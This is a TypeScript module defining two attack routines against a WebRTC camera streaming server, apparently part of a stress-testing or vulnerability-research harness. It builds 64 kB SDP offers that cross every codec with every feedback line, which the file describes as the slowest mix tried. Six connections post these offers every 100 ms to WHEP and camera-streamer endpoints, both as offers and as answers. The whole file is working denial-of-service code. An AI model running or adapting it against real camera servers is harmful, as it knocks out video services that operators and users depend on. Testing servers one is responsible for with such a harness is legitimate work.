import type { Attack } from './attack.js'
import { loops, pause } from './attack.js'
import { openPoster } from './posting.js'

/** Maximum size of an offer. */
export const OFFER_BYTES = 64 * 1024
const CONNECTIONS = 6
const EVERY_MS = 100
const HEAD = 'v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\nm=video 9 UDP/TLS/RTP/SAVPF 1\r\na=mid:0\r\n'

/** An offer in which every codec has every feedback line: the slowest of the mixes that were tried. */
export function crossedOffer(
  bytes = OFFER_BYTES,
  lines = ['a=rtpmap:1 a\r\n', 'a=rtcp-fb:* a a\r\n'],
): string {
  const each = (bytes - HEAD.length) / lines.length
  return HEAD + lines.map((line) => line.repeat(Math.floor(each / line.length))).join('')
}

export const offers: Attack = {
  name: 'offers',
  about: `${CONNECTIONS} connections post 64 kB offers whose codecs and feedback lines all belong together, by WHEP`,
  run: async (field) => {
    const posters = Array.from({ length: CONNECTIONS }, () => openPoster(field))
    const offer = crossedOffer()
    await loops(field, CONNECTIONS, EVERY_MS, async (index) => {
      await posters[index]!.post('/camera1/whep', 'application/sdp', offer)
    })
  },
}

export const answers: Attack = {
  name: 'answers',
  about: `${CONNECTIONS} connections post the same as answers to offers of the camera-streamer protocol`,
  run: async (field) => {
    const posters = Array.from({ length: CONNECTIONS }, () => openPoster(field))
    const sdp = crossedOffer()
    let id: string | undefined
    await loops(field, CONNECTIONS, EVERY_MS, async (index) => {
      const send = async (message: object): Promise<{ status: number; text: string }> =>
        await posters[index]!.post('/camera1/webrtc', 'application/json', JSON.stringify(message))
      if (id === undefined) {
        const { text } = await send({ type: 'request' })
        id = (JSON.parse(text) as { id?: string }).id
        if (id === undefined) await pause(field, 500)
      } else {
        const { status } = await send({ type: 'answer', id, sdp })
        if (status === 404) id = undefined
      }
    })
  },
}
